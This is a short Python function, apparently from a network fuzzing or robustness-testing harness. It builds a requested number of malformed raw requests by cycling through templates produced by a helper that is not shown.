def malformed_requests(rng: random.Random, attacker_port: int, count: int) -> list[tuple[str, bytes]]:
    """``count`` raw requests covering every malformation template (round-robin, random parameters)."""
    templates = _raw_templates(rng, attacker_port)
    names = sorted(templates)
    return [(names[i % len(names)], templates[names[i % len(names)]]()) for i in range(count)]
